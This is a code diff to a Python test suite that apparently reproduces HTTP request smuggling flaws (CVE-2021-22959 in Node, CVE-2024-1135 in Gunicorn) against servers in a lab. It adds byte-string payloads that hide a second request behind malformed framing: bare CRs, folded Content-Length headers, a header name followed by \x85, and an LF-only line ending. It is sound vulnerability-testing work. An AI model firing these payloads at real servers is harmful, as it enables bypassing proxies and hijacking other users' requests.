@@ -73,8 +73,10 @@ class Case(unittest.TestCase):
         case = fidelity.case("", fidelity.EXPLOIT, *steps)
         case.settled, case.varying = self.case.settled, self.case.varying
         with self.client.inside():
-            seen = fidelity.run_case((pplab.address(vm), self.port), case,
-                                     self.servers[vm])
+            return self.flaw(fidelity.run_case(
+                (pplab.address(vm), self.port), case, self.servers[vm]))
+
+    def flaw(self, seen):
         return self.case.flaw(seen)
 
     def trick(self, *steps):
@@ -199,6 +201,56 @@ class Line(Case):
 
 class Werkzeug(Line):
     pair = "CVE-2023-23934"
+
+
+class Framing(Case):
+    """The exploit in what is content, or a field, for other servers."""
+
+    def flaw(self, seen):
+        """Has the application got the exploit's request, which is for /x?"""
+        return any("/x" in (line.get("url"), line.get("RAW_URI"))
+                   for line in seen.requests())
+
+    def hide(self, head, before=b""):
+        """The exploit behind 'head' and 'before'; %d: the length of both but
+        the head."""
+        inside = before + self.case.steps[0]
+        self.trick((head % len(inside) if b"%d" in head else head) + inside)
+
+
+class Node(Framing):
+    pair = "CVE-2021-22959"
+
+    def test_cr(self):
+        "a CR where a field would be, where the fields end for it"
+        self.hide(b"GET /a HTTP/1.1\r\nHost: a\r\n\r\r\n")
+
+    def test_cr_and_more(self):
+        "the same, and any byte behind it"
+        self.hide(b"GET /a HTTP/1.1\r\nHost: a\r\n\r\\")
+
+    def test_fold(self):
+        "a length folded into the coding, which it takes for chunked"
+        self.hide(b"POST /a HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked"
+                  b"\r\n Content-Length: %d\r\n\r\n", b"0\r\n\r\n")
+
+    def test_trailer(self):
+        "a CR where a trailer would be"
+        self.hide(b"POST /a HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked"
+                  b"\r\n\r\n0\r\n\r\r\n")
+
+
+class Gunicorn(Framing):
+    pair = "CVE-2024-1135"
+
+    def test_name(self):
+        "a name with Python's white space behind it"
+        self.hide(b"POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n"
+                  b"Transfer-Encoding\x85: chunked\r\n\r\n", b"0\r\n\r\n")
+
+    def test_lf(self):
+        "a length behind LF, which is a part of the field before"
+        self.hide(b"POST /a HTTP/1.1\r\nHost: a\nContent-Length: %d\r\n\r\n")
 
 
 class Refused(Case):
@@ -378,7 +430,7 @@ class Others(unittest.TestCase):
         self.talk("ldap")
 
 
-del Case, Talk, Line
+del Case, Talk, Line, Framing
 
 
 if __name__ == "__main__":
